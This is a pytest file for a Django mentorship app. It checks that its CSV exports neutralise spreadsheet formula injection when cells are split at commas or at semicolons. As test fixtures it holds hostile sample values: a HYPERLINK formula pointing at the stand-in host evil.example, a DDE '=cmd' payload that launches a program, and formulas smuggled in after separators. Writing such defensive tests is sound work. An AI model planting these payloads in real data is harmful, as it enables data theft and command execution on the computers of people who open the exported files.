"""Every CSV export goes through one helper that keeps a spreadsheet from reading a formula,
whether it splits rows at commas or, as much of Europe does, at semicolons."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import MenteeProfile, User
from mentorship.views.csv import spreadsheet_safe
from tests.mentorship.hours_factories import at, feedback, session

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = 'Bob x;=HYPERLINK("http://evil.example/?leak")'
HOSTILE_GROUP = "Riverside a;+1, -2+3; @SUM(A1)"
HOSTILE_LEARNED = "Patience;=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\tfoo", "'\tfoo"),
        ("\r=1", "'\r'=1"),
        ("x;=HYPERLINK(1)", "'x;'=HYPERLINK(1)"),
        ("a;+1", "'a;'+1"),
        ("a, -b", "'a,' -b"),
        ("a;  @SUM(1)", "'a;'  @SUM(1)"),
        ("first\n=second", "'first\n'=second"),
        ("plain; text, here", "plain; text, here"),
        ("Mary-Jane O'Brien", "Mary-Jane O'Brien"),
        ("ends with a separator;", "ends with a separator;"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_could_split_into_a_formula_is_neutralised(cell, safe):
    assert spreadsheet_safe(cell) == safe


def _no_piece_is_a_formula(content: bytes) -> list[list[str]]:
    """Read the file as a spreadsheet would with "," and with ";" as its list separator."""
    text = content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    for line in text.splitlines():
        for piece in line.split(";"):
            assert not piece.lstrip(' "').startswith(FORMULA_START), line
    return rows


@pytest.fixture
def hostile_names(pair, alice, bob):
    """The mentor's name and the enterprise group's name are typed by members."""
    User.objects.filter(pk=bob.pk).update(name=HOSTILE_NAME)
    MenteeProfile.objects.filter(pk=pair.mentee_id).update(group_name=HOSTILE_GROUP)


def test_the_claims_csv_reads_no_formula_with_either_list_separator(
    pair, hostile_names, coordinator_client
):
    session(pair, when=at(2025, 3, 3), minutes=90)
    response = coordinator_client.get(reverse("mentorship:claims_csv", args=[2025, 3]))
    rows = _no_piece_is_a_formula(response.content)
    assert rows[1][0] == "'Bob x;'=HYPERLINK(\"http://evil.example/?leak\")"
    assert rows[1][2] == f"'#{pair.pk} Riverside a;'+1,' -2+3;' @SUM(A1)"


def test_the_programme_csv_reads_no_formula_with_either_list_separator(
    pair, hostile_names, coordinator_client
):
    response = coordinator_client.get(reverse("mentorship:programme_csv"))
    rows = _no_piece_is_a_formula(response.content)
    quiet = [row for row in rows if row[0].startswith("No session in")]
    assert quiet and quiet[0][1].startswith("'Bob x;'=HYPERLINK(")


def test_the_cpd_csv_reads_no_formula_with_either_list_separator(pair, hostile_names, bob_client):
    for day in (3, 10, 17):  # feedback is asked for after the third session
        session(pair, when=at(2025, 3, day), minutes=90)
    feedback(pair, side="mentor", rating=4, learned=HOSTILE_LEARNED)
    response = bob_client.get(reverse("mentorship:cpd_csv"))
    rows = _no_piece_is_a_formula(response.content)
    assert rows[1][:2] == ["2025-03-03", "'Riverside a;'+1,' -2+3;' @SUM(A1)"]
    assert rows[-1][2] == "'Patience;'=cmd|' /C calc'!A0"
